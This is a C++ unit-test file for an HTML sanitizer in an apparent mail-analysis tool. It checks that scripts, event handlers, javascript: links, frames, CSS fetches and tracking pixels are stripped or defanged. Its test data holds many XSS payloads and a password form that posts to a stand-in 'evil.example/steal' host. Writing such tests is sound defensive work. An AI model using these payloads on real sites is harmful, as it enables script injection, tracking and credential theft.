// sanitize_html on the hostile HTML a viewer meets: nothing that could run or fetch survives,
// formatting and text do, and remote images are reported instead of loaded.
#include <gtest/gtest.h>

#include <regex>

#include "content/content.hpp"

using namespace renkei::content;

namespace {

// Every URL-like reference left in the output (attributes that make a browser fetch or navigate).
bool fetches_or_runs(const std::string& html) {
  static const std::regex bad(
      R"re((<script|<iframe|<object|<embed|<svg|<math|<link|<meta http|<base|<form|<style|\son\w+\s*=|\s(href|src|action|formaction|background|srcset|poster|data)\s*=\s*"(?!data:image/)|javascript:|url\())re",
      std::regex::icase);
  return std::regex_search(html, bad);
}

}  // namespace

TEST(Sanitize, ScriptsHandlersAndActiveElementsAreGone) {
  const char* hostile[] = {
      "<script>alert(1)</script><p>text</p>",
      "<img src=x onerror=alert(1)>",
      "<body onload=alert(1)><p onclick='x()'>hi</p>",
      "<a href=\"javascript:alert(1)\">click</a>",
      "<a href=\"jav&#x61;script:alert(1)\">click</a>",
      "<svg><script>alert(1)</script><a xlink:href='javascript:x'>s</a></svg>",
      "<iframe src=\"https://evil.example/\"></iframe>",
      "<object data=\"https://evil.example/x.swf\"></object><embed src=\"https://evil.example/e\">",
      "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
      "<base href=\"https://evil.example/\"><a href=\"/x\">x</a>",
      "<link rel=stylesheet href=\"https://evil.example/s.css\">",
      "<style>body{background:url(https://evil.example/t.gif)}</style>",
      "<div style=\"background-image:url(https://evil.example/t.gif)\">x</div>",
      "<div style=\"background:u\\72l(https://evil.example/t.gif)\">x</div>",
      "<form action=\"https://evil.example/steal\"><input name=p "
      "type=password><button>go</button></form>",
      "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
      "<template><script>alert(1)</script></template>",
      "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
      "<img src=\"https://tracker.example/pixel.gif\" width=1 height=1>",
      "<table background=\"https://tracker.example/bg.gif\"><tr><td>x</td></tr></table>",
      "<video poster=\"https://evil.example/p.jpg\"><source "
      "src=\"https://evil.example/v.mp4\"></video>",
      "<img srcset=\"https://evil.example/a.png 1x\">",
      "<p>unclosed <b>bold <i>both</b> tail",
      "<scr<script>ipt>alert(1)</script>",
      "<noscript><img src=https://evil.example/n.gif></noscript>",
  };
  for (const char* h : hostile) {
    const SanitizedHtml s = sanitize_html(h);
    EXPECT_FALSE(fetches_or_runs(s.html)) << h << "\n=> " << s.html;
  }
}

TEST(Sanitize, TextAndFormattingSurvive) {
  const SanitizedHtml s = sanitize_html(
      "<html><head><title>t</title></head><body><p style=\"color:red;font-weight:bold\">お支払い "
      "&amp; 確認</p>"
      "<table border=1><tr><td colspan=2>セル</td></tr></table><a "
      "href=\"https://login.example.co.jp.verify.net/\">ログイン</a>"
      "<img alt=\"logo\" src=\"data:image/png;base64,iVBORw0KGgo=\"></body></html>");
  EXPECT_NE(s.html.find("<p style=\"color:red;font-weight:bold\">お支払い &amp; 確認</p>"),
            std::string::npos)
      << s.html;
  EXPECT_NE(s.html.find("<td colspan=\"2\">セル</td>"), std::string::npos) << s.html;
  // Links keep their text; the target is shown defanged, never followed.
  EXPECT_NE(
      s.html.find(
          "<a title=\"link: hxxps://login[.]example[.]co[.]jp[.]verify[.]net/\">ログイン</a>"),
      std::string::npos)
      << s.html;
  EXPECT_NE(s.html.find("src=\"data:image/png;base64,iVBORw0KGgo=\""), std::string::npos) << s.html;
  EXPECT_EQ(s.html.find("<title>"), std::string::npos);
  EXPECT_TRUE(s.remote.empty());
}

TEST(Sanitize, RemoteImagesAreListedNotLoaded) {
  const SanitizedHtml s = sanitize_html(
      "<img src=\"https://tracker.example/open.gif?id=victim@a-company.co.jp\" width=1 height=1>"
      "<td background=\"http://cdn.example/bg.png\">x</td><img src=\"cid:logo@mail\">");
  ASSERT_EQ(s.remote.size(), 2u);
  EXPECT_EQ(s.remote[0], "https://tracker.example/open.gif?id=victim@a-company.co.jp");
  EXPECT_EQ(s.remote[1], "http://cdn.example/bg.png");
  EXPECT_EQ(s.html.find("tracker.example"), std::string::npos) << s.html;
  EXPECT_NE(s.html.find("remote image blocked"), std::string::npos);
}

TEST(Sanitize, LimitsAreNamed) {
  std::string big(5u << 20, 'a');
  SanitizedHtml s = sanitize_html(big);
  EXPECT_TRUE(s.limit_hit);
  EXPECT_NE(s.limit_detail.find("cut"), std::string::npos);
  std::string deep;
  for (int i = 0; i < 1000; ++i) deep += "<form>";
  s = sanitize_html(deep + "<p>x</p>");
  EXPECT_TRUE(s.limit_hit);
  EXPECT_FALSE(fetches_or_runs(s.html));
}

// Regression (hub hardening, finding 9): everything after an unclosed <svg> or <math> was dropped,
// hiding the rest of the mail from the analyst. An HTML element ends foreign content, as in a
// browser; what is inside the foreign element stays out.
TEST(Sanitize, AnUnclosedSvgOrMathDoesNotHideTheRest) {
  const SanitizedHtml svg =
      sanitize_html("<p>before</p><svg><text>in svg</text><circle r=\"1\"><p>after svg</p>");
  EXPECT_NE(svg.html.find("before"), std::string::npos);
  EXPECT_NE(svg.html.find("after svg"), std::string::npos);
  EXPECT_EQ(svg.html.find("in svg"), std::string::npos);
  const SanitizedHtml math = sanitize_html("<math><mi>x</mi><div>after math</div>");
  EXPECT_NE(math.html.find("after math"), std::string::npos);
  EXPECT_EQ(math.html.find(">x<"), std::string::npos);
  // A closed one is dropped whole, and a dropped <object> is not ended by HTML inside it.
  const SanitizedHtml closed = sanitize_html("<svg><text>gone</text></svg><b>kept</b>");
  EXPECT_EQ(closed.html.find("gone"), std::string::npos);
  EXPECT_NE(closed.html.find("kept"), std::string::npos);
  const SanitizedHtml object = sanitize_html("<object><p>fallback</p></object>");
  EXPECT_EQ(object.html.find("fallback"), std::string::npos);
}
